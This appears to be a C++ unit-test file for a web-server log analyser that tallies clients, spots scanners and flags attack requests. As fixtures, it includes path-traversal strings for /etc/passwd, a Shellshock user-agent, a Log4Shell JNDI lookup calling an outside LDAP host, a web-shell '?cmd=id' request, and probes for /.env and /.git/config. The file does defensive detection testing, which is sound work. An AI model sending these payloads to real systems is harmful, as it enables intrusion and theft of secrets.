// SPDX-License-Identifier: Apache-2.0
#include "collect/logs/web_traffic.h"

#include <algorithm>
#include <string>
#include <vector>

#include "fmt/format.h"
#include "gtest/gtest.h"

namespace genba::collect::logs {
namespace {

parse::WebRequest request(std::string_view client, std::string_view target, int32_t status,
                          std::string_view method = "GET") {
  parse::WebRequest each;
  each.client = client;
  each.method = method;
  each.target = target;
  each.status = status;
  each.agent = "Mozilla/5.0";
  return each;
}

RequestPlace at(int64_t time, uint16_t file = 0) {
  RequestPlace place;
  place.time = time;
  place.file = file;
  place.line = time + 1;
  return place;
}

std::string clients(const WebTraffic& web) {
  std::vector<std::string> rows;
  for (const auto& [address, client] : web.clients()) {
    rows.push_back(
        fmt::format("{} {}-{} requests {} refused {} paths {} attacks {} posts {} found "
                    "{}@{} tool {};",
                    web.text(address), client.first_time, client.last_time, client.requests,
                    client.refused, client.distinct_refused(), client.attacks, client.posts,
                    web.text(client.found), client.found_time, web.text(client.tool)));
  }
  std::sort(rows.begin(), rows.end());
  std::string out;
  for (const std::string& row : rows) {
    out += row;
  }
  return out;
}

std::string scripts(const WebTraffic& web) {
  std::string out;
  for (const auto& [path, script] : web.scripts()) {
    out += fmt::format(
        "{} requests {} posts {} answered {} posts answered {} first {} referred {} "
        "upload {};",
        web.text(path), script.requests, script.posts, script.answered, script.posts_answered,
        web.text(script.first_client), script.referred, script.in_upload_place);
  }
  return out;
}

std::string notable(const WebTraffic& web) {
  std::string out;
  for (const NotableRequest& each : web.notable()) {
    out += fmt::format("{} {} {} {};", web.text(each.address), web.text(each.method),
                       web.text(each.target), each.status);
  }
  return out;
}

TEST(WebTraffic, OrdinaryRequestsAreOnlyCounted) {
  WebTraffic web;
  web.add(request("192.0.2.1", "/", 200), at(10));
  web.add(request("192.0.2.1", "/style.css", 304), at(11));
  web.add(request("192.0.2.1", "/favicon.ico", 404), at(9));
  web.add(request("192.0.2.1", "/contact", 302, "POST"), at(12));
  EXPECT_EQ(clients(web),
            "192.0.2.1 9-12 requests 4 refused 1 paths 1 attacks 0 posts 1 found @0 tool ;");
  EXPECT_EQ(scripts(web), "");
  EXPECT_EQ(notable(web), "");
}

TEST(WebTraffic, WhatAScannerFindsAfterManyRefusalsIsKept) {
  WebTraffic web;
  for (int i = 0; i < 30; ++i) {
    web.add(request("203.0.113.7", fmt::format("/try{}.zip", i), 404), at(i));
    if (i == 10) {
      web.add(request("203.0.113.7", "/early", 200), at(i));  // fewer than twenty before it
    }
  }
  web.add(request("203.0.113.7", "/", 200), at(31));
  web.add(request("203.0.113.7", "/logo.png", 200), at(32));
  web.add(request("203.0.113.7", "/moved", 301), at(33));
  web.add(request("203.0.113.7", "/later", 200), at(34));
  web.add(request("203.0.113.7", "/later", 200), at(35));
  ASSERT_EQ(web.clients().size(), 1U);
  const ClientTraffic& client = web.clients()[0].second;
  EXPECT_EQ(web.text(client.found), "/later");
  EXPECT_EQ(client.found_time, 35);
  EXPECT_EQ(client.refused, 30);
  EXPECT_NEAR(static_cast<double>(client.distinct_refused()), 30, 3);
}

TEST(WebTraffic, SamePathRefusedAgainIsOnePath) {
  WebTraffic web;
  for (int i = 0; i < 100; ++i) {
    web.add(request("203.0.113.7", fmt::format("/wp-login.php?try={}", i), 403, "POST"), at(i));
  }
  EXPECT_EQ(web.clients()[0].second.distinct_refused(), 1);
}

TEST(WebTraffic, DistinctRefusalsAreCountedUpTo255) {
  WebTraffic web;
  for (int i = 0; i < 5000; ++i) {
    web.add(request("203.0.113.7", fmt::format("/p{}", i), 404), at(i));
  }
  EXPECT_EQ(web.clients()[0].second.distinct_refused(), 255);
}

TEST(WebTraffic, ScriptsThatAnsweredTellWhoAsked) {
  WebTraffic web;
  web.add(request("203.0.113.7", "/uploads/x.php?cmd=id", 200), at(20));
  web.add(request("203.0.113.8", "/uploads/x.php", 200, "POST"), at(30));
  parse::WebRequest referred = request("203.0.113.7", "/uploads/x.php", 500);
  referred.referrer = "https://site.example/";
  web.add(referred, at(40));
  web.add(request("203.0.113.7", "/absent.php", 404), at(50));
  EXPECT_EQ(scripts(web),
            "/uploads/x.php requests 3 posts 1 answered 2 posts answered 1 first 203.0.113.7 "
            "referred 1 upload true;");
  EXPECT_EQ(notable(web),
            "203.0.113.7 GET /uploads/x.php?cmd=id 200;203.0.113.8 POST /uploads/x.php 200;"
            "203.0.113.7 GET /uploads/x.php 500;");
}

TEST(WebTraffic, AttacksAreNotableAlsoInHeadersAndEncoded) {
  WebTraffic web;
  web.add(request("203.0.113.7", "/a?f=..%2f..%2f..%2fetc%2fpasswd", 404), at(1));
  parse::WebRequest shellshock = request("203.0.113.7", "/cgi-bin/status", 404);
  shellshock.agent = "() { :;}; /bin/id";
  web.add(shellshock, at(2));
  parse::WebRequest log4shell = request("203.0.113.7", "/", 200);
  log4shell.referrer = "${jndi:ldap://203.0.113.9/a}";
  web.add(log4shell, at(3));
  EXPECT_EQ(web.clients()[0].second.attacks, 3);
  EXPECT_EQ(web.notable().size(), 3U);
}

TEST(WebTraffic, SecretFileCountsOnlyWhenItWasGiven) {
  WebTraffic web;
  web.add(request("203.0.113.7", "/.env", 404), at(1));
  web.add(request("203.0.113.7", "/.git/config", 200), at(2));
  EXPECT_EQ(notable(web), "203.0.113.7 GET /.git/config 200;");
}

TEST(WebTraffic, RefusedAttacksDoNotPushOutAnsweredOnes) {
  WebTraffic web;
  for (int i = 0; i < 7000; ++i) {
    web.add(request("203.0.113.7", "/a?f=../../../etc/passwd", 404), at(i));
  }
  EXPECT_EQ(web.notable().size(), 5000U);
  EXPECT_EQ(web.left_out(), 2000);
  web.add(request("203.0.113.7", "/a?f=../../../etc/passwd", 200), at(7000));
  EXPECT_EQ(web.notable().back().status, 200);
  EXPECT_EQ(web.left_out(), 2000);
}

TEST(WebTraffic, ClientsOfAScriptAreCountedUpToEight) {
  WebTraffic web;
  for (int i = 0; i < 20; ++i) {
    web.add(request(fmt::format("192.0.2.{}", i), "/index.php", 200), at(i));
    web.add(request(fmt::format("192.0.2.{}", i), "/index.php", 200), at(i));
  }
  const auto& clients = web.scripts()[0].second.clients;
  EXPECT_EQ(std::count(clients.begin(), clients.end(), 0U), 0);
  EXPECT_EQ(web.text(clients[7]), "192.0.2.7");
}

TEST(WebTraffic, ToolsAreToldByTheirAgents) {
  WebTraffic web;
  parse::WebRequest scan = request("203.0.113.7", "/", 200);
  scan.agent = "sqlmap/1.8 (https://sqlmap.org)";
  web.add(scan, at(1));
  parse::WebRequest script = request("192.0.2.1", "/", 200);
  script.agent = "curl/8.5.0";
  web.add(script, at(1));
  EXPECT_EQ(web.text(web.clients()[0].second.tool), "scanner");
  EXPECT_EQ(web.text(web.clients()[1].second.tool), "tool");
}

TEST(WebTraffic, LongTargetsAreCut) {
  WebTraffic web;
  const std::string target = "/" + std::string(100'000, 'a') + ".php?cmd=id";
  web.add(request("203.0.113.7", "/x.php?cmd=id;" + std::string(100'000, 'b'), 200), at(1));
  web.add(request("203.0.113.7", target, 200), at(2));
  for (const NotableRequest& each : web.notable()) {
    EXPECT_LE(web.text(each.target).size(), 1024U);
  }
  for (const auto& [path, script] : web.scripts()) {
    EXPECT_LE(web.text(path).size(), 1024U);
  }
}

// A scanner's refusals and what it found, as two threads or two parts may read them.
TEST(WebTraffic, MergedInAnyOrderIsTheSameAsReadInOne) {
  WebTraffic whole;
  WebTraffic early;
  WebTraffic late;
  const auto add = [&](WebTraffic& part, const parse::WebRequest& each, int64_t time) {
    part.add(each, at(time));
    whole.add(each, at(time));
  };
  for (int i = 0; i < 15; ++i) {
    add(early, request("203.0.113.7", fmt::format("/a{}", i), 404), i);
  }
  add(early, request("192.0.2.1", "/index.php", 200), 50);
  for (int i = 0; i < 15; ++i) {
    add(late, request("203.0.113.7", fmt::format("/b{}", i), 404), 100 + i);
  }
  add(late, request("203.0.113.7", "/admin.zip", 200), 200);
  add(late, request("192.0.2.2", "/index.php", 200, "POST"), 201);
  WebTraffic forward;
  forward.merge(early);
  forward.merge(late);
  WebTraffic backward;
  backward.merge(late);
  backward.merge(early);
  EXPECT_EQ(clients(forward), clients(whole));
  EXPECT_EQ(clients(backward), clients(whole));
  EXPECT_EQ(scripts(forward), scripts(whole));
  EXPECT_EQ(scripts(backward), scripts(whole));
}

// A botnet, or a forger: each request comes from somewhere else and says something else.
TEST(WebTraffic, FloodOfClientsLeavesTheScanner) {
  WebTraffic web;
  for (int i = 0; i < 25; ++i) {
    web.add(request("203.0.113.7", fmt::format("/{}.bak", i), 404), at(i));
  }
  web.add(request("203.0.113.7", "/backup.zip", 200), at(30));
  for (int i = 0; i < 400'000; ++i) {
    const std::string client = fmt::format("2001:db8::{:x}", i);
    const std::string agent = fmt::format("{} {:0400}", client, i);
    parse::WebRequest visit = request(client, "/about", 200);
    visit.agent = agent;
    web.add(visit, at(100 + i));
  }
  web.add(request("203.0.113.7", "/backup.zip", 200), at(999'999));
  EXPECT_LE(web.clients().size(), WebTraffic::kMostClients);
  EXPECT_LT(web.text_bytes(), WebTraffic::kMostTextBytes + (1U << 20));
  EXPECT_EQ(web.left_out() + static_cast<int64_t>(web.clients().size()), 400'001);
  EXPECT_NE(clients(web).find("203.0.113.7 0-999999 requests 27 refused 25"), std::string::npos);
}

TEST(WebTraffic, FloodOfOddClientsIsCountedAndBounded) {
  WebTraffic web;
  for (int i = 0; i < 200'000; ++i) {
    web.add(request(fmt::format("2001:db8::{:x}", i), "/../../etc/passwd", 400), at(i));
  }
  EXPECT_LE(web.clients().size(), WebTraffic::kMostClients);
  EXPECT_GT(web.left_out(), 0);
  WebTraffic both;
  both.merge(web);
  both.merge(web);
  EXPECT_EQ(both.clients().size(), web.clients().size());
}

// Searches: what a client was given last is kept, and what it was given before takes no room.
TEST(WebTraffic, TargetsThatAllDifferTakeNoRoom) {
  WebTraffic web;
  for (int i = 0; i < 300'000; ++i) {
    web.add(request("192.0.2.1", fmt::format("/search?q={:0500}", i), 200), at(i));
  }
  EXPECT_LT(web.text_bytes(), WebTraffic::kMostTextBytes + (1U << 20));
  ASSERT_EQ(web.clients().size(), 1U);
  EXPECT_EQ(web.clients()[0].second.requests, 300'000);
  EXPECT_EQ(web.text(web.clients()[0].second.found), fmt::format("/search?q={:0500}", 299'999));
}

}  // namespace
}  // namespace genba::collect::logs
